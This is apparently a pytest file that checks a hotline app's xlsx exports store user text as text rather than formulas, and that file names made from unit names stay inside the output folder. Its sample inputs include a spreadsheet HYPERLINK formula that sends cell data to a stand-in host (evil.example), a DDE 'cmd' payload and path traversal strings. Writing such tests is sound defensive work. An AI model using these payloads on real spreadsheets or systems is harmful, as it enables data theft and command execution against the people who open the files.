"""Export hygiene: text from user data that a spreadsheet would run as a formula (= + - @,
also after a tab or carriage return) is written as text in every .xlsx export (one helper,
services/safe_cells.py); file names made from user data (unit names with ../ or /) never
lead outside the folder asked for."""

from __future__ import annotations

import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from triage_helpers import add_order

from hotline_tui.services import safe_cells

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]


def test_neutralise_for_csv():
    for v in HOSTILE:
        assert safe_cells.neutralise(v) == "'" + v
    for v in ("路灯不亮", "13800000000", "", 42, 3.5, None, datetime(2026, 1, 1)):
        assert safe_cells.neutralise(v) == v
    assert safe_cells.is_formula_like("\t=x") and not safe_cells.is_formula_like("a=b")


def test_put_writes_text_never_a_formula(tmp_path):
    from openpyxl import Workbook, load_workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook()
    ws = wb.active
    for i, v in enumerate(HOSTILE + ["普通", 7], start=1):
        safe_cells.put(ws.cell(row=i, column=1), v)
    path = tmp_path / "a.xlsx"
    wb.save(path)
    _assert_no_formula(path)
    back = [c.value for c in load_workbook(path).active["A"]]
    assert back == HOSTILE + ["普通", 7]  # the text itself is unchanged
    wo = Workbook(write_only=True)
    ws2 = wo.create_sheet()
    c = WriteOnlyCell(ws2)
    safe_cells.put(c, "=1+1")
    assert c.data_type == "s" and c.quotePrefix


def _assert_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)


def _cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s", (path.name, c.coordinate, c.value)
                    if c.value.startswith(("=", "+", "-", "@")):
                        assert c.quotePrefix, (path.name, c.coordinate, c.value)
                    out.append(c.value)
    return out


@pytest.fixture
def hostile(engine):
    """Units whose names are paths and formulas; orders whose every text field is one;
    dispatched long ago (overdue), one signed for by an owner with a formula name."""
    from hotline_tui.services import dispatch as dispatch_svc
    from hotline_tui.services import owners, triage
    from hotline_tui.services.units import add_unit

    evil = add_unit(engine, "../../逃逸/单位", kind="department").id
    formula_unit = add_unit(engine, '=HYPERLINK("http://x")', kind="department",
                            short_name="@短名").id
    slash = add_unit(engine, "/etc/passwd", kind="township").id
    at = datetime(2026, 3, 2, 9, 0)
    numbers = []
    for i, unit in enumerate((evil, formula_unit, slash, evil)):
        no = f"=X{i}" if i == 0 else f"X{i}"
        add_order(engine, no, at=at, title=HOSTILE[i % len(HOSTILE)],
                  content=HOSTILE[(i + 1) % len(HOSTILE)], area="@区域", address="-地址",
                  caller_name=HOSTILE[3], caller_phone="+8613800000000")
        triage.triage(engine, no, unit, 3, actor="t")
        numbers.append(no)
    dispatch_svc.dispatch(engine, numbers, at=at + timedelta(hours=1), actor="t")
    owners.sign(engine, "X1", name="=cmd|x", phone="13700000000", post="@职务",
                at=at + timedelta(hours=2))
    return engine, numbers


def _inside(folder: Path, files) -> None:  # noqa: ANN001
    root = folder.resolve()
    for f in files:
        assert Path(f).resolve().parent == root, f


def test_every_xlsx_export_writes_user_text_as_text(hostile, tmp_path):
    from hotline_tui.services.export_inbox import export_inbox
    from hotline_tui.services.owners import export_roster
    from hotline_tui.services.queue_docs import write_chase_notices
    from hotline_tui.services.sheets import write_sheets
    from hotline_tui.store.inbox_query import InboxFilter

    engine, numbers = hostile
    sheets_dir, notices_dir = tmp_path / "sheets", tmp_path / "notices"
    sheets = write_sheets(engine, numbers, sheets_dir, formats=("xlsx",), unmask=True)
    notices = [p for ps in write_chase_notices(engine, notices_dir, formats=("xlsx",),
                                               unmask=True).values() for p in ps]
    inbox = export_inbox(engine, InboxFilter(), tmp_path / "inbox.xlsx").path
    roster = export_roster(engine, tmp_path / "roster.xlsx")
    files = [*sheets, *notices, inbox, roster]
    assert len(sheets) == 3 and len(notices) == 3
    seen: list[str] = []
    for f in files:
        _assert_no_formula(f)
        seen += _cells(f)
    text = "\n".join(seen)
    for v in ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', "@SUM(1+1)", "=cmd|x",
              "+1+cmd|' /C calc'!A0"):
        assert v in text  # the data is there, as text
    _inside(sheets_dir, sheets)
    _inside(notices_dir, notices)


def test_file_names_from_unit_names_stay_in_the_folder(hostile, tmp_path):
    from hotline_tui.services.queue_docs import write_chase_notices
    from hotline_tui.services.sheets import write_sheets

    engine, numbers = hostile
    out = tmp_path / "a" / "b"
    written = write_sheets(engine, numbers, out, formats=("xlsx", "docx"))
    written += [p for ps in write_chase_notices(engine, out, formats=("xlsx", "docx")).values()
                for p in ps]
    _inside(out, written)
    everything = {p.resolve() for p in tmp_path.rglob("*")
                  if p.is_file() and not p.name.startswith("hotline.db")}
    assert everything == {p.resolve() for p in written}  # nothing anywhere else
    for p in written:
        assert not p.name.startswith(".") and "/" not in p.name and ".." not in p.name


def test_safe_filename_cases():
    from hotline_tui.services.sheets.layout import safe_filename

    for name in ("../../x", "/etc/passwd", "..\\..\\x", "a/../../b", "..", ".", "",
                 "C:\\Windows\\x", "\x00\x1f", "con:x"):
        s = safe_filename(name)
        assert s and "/" not in s and "\\" not in s and ":" not in s
        assert not s.startswith(".") and s not in (".", "..")
